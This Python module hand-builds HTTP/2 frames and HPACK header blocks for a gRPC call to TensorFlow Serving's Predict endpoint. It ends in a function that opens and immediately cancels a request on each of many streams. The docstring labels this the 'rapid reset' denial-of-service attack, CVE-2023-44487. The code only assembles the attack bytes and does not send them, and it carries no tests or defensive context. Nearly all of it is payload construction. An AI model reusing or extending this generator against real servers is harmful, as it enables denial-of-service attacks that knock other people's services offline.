"""HTTP/2 by hand: frames that no library sends."""

from collections.abc import Iterable

HEADERS, RESET, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
END_HEADERS = 4
CANCEL = (8).to_bytes(4, "big")


def frame(kind: int, stream: int, payload: bytes = b"", flags: int = 0) -> bytes:
    """An HTTP/2 frame. Source: RFC 9113, 4.1."""
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def header_block(**fields: str) -> bytes:
    """Header fields in HPACK's simplest form, literal and never indexed. Source: RFC 7541, 6.2.3"""
    names = {"method": ":method", "scheme": ":scheme", "path": ":path", "host": ":authority"}
    return b"".join(
        b"\x10" + bytes([len(text)]) + text if part == 0 else bytes([len(text)]) + text
        for name, value in fields.items()
        for part, text in enumerate((names.get(name, name).encode(), value.encode()))
    )


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0)
"""How an HTTP/2 connection begins, with empty settings."""
CALL = header_block(
    method="POST",
    scheme="http",
    path="/tensorflow.serving.PredictionService/Predict",
    host="x",
    te="trailers",
) + header_block(**{"content-type": "application/grpc"})


def begun_and_reset(streams: Iterable[int]) -> bytes:
    """A call on each stream, begun and taken back at once: rapid reset, CVE-2023-44487."""
    return b"".join(
        frame(HEADERS, stream, CALL, END_HEADERS) + frame(RESET, stream, CANCEL)
        for stream in streams
    )
